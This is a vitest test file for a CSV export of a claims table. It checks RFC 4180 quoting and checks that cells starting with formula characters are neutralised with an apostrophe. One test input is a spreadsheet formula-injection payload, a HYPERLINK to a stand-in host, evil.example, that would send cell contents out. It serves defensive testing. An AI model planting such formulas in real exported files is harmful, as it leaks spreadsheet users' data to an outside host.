// The claims table as CSV: RFC 4180 quoting (read back by a parser written from the RFC), and no
// cell a spreadsheet would run as a formula.

import { describe, expect, it } from 'vitest';
import { csvCell } from '../../core/export/csv.js';
import { call, callAsync } from '../helpers.js';
import { exportFixture } from './fixture.js';

/** RFC 4180 records: fields separated by commas, quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') {
      if (field !== '') throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else if (c === '\n' || c === '\r') throw new Error(`a bare line break at ${i}`);
    else field += c;
  }
  if (quoted) throw new Error('an unterminated quoted field');
  if (field || row.length) throw new Error('the last record does not end with CRLF');
  return rows;
}

describe('CSV', () => {
  it('quotes as RFC 4180 says, and guards every cell a spreadsheet would run', async () => {
    const f = await exportFixture();
    const tricky = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-3', '@SUM(A1:A2)', 'A, "quoted" claim\nover two lines'];
    for (const statement of tricky) call(f.ctx, 'claims.create', { caseId: f.caseId, statement, attribution: 'on_record' });
    const r = await callAsync(f.ctx, 'packets.export', { caseId: f.caseId, profile: 'lawyer', format: 'csv' });
    expect(r.mediaType).toBe('text/csv');
    expect(r.data.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(r.data.slice(1));
    const header = rows[0]!;
    expect(header.slice(0, 4)).toEqual(['ref', 'id', 'statement', 'quote']);
    expect(rows.every((row) => row.length === header.length)).toBe(true);
    const statements = rows.slice(1).map((row) => row[header.indexOf('statement')]!);
    const preview = call(f.ctx, 'packets.preview', { caseId: f.caseId, profile: 'lawyer' });
    expect(statements.length).toBe(preview.counts.claims);
    expect(statements).toContain(`'${tricky[0]}`);
    expect(statements).toContain("'+1+2");
    expect(statements).toContain("'-3");
    expect(statements).toContain("'@SUM(A1:A2)");
    expect(statements).toContain(tricky[4]);
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('cells: plain, quoted, doubled quotes, formula prefix; numbers are left alone', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell(-3)).toBe('-3');
  });
});
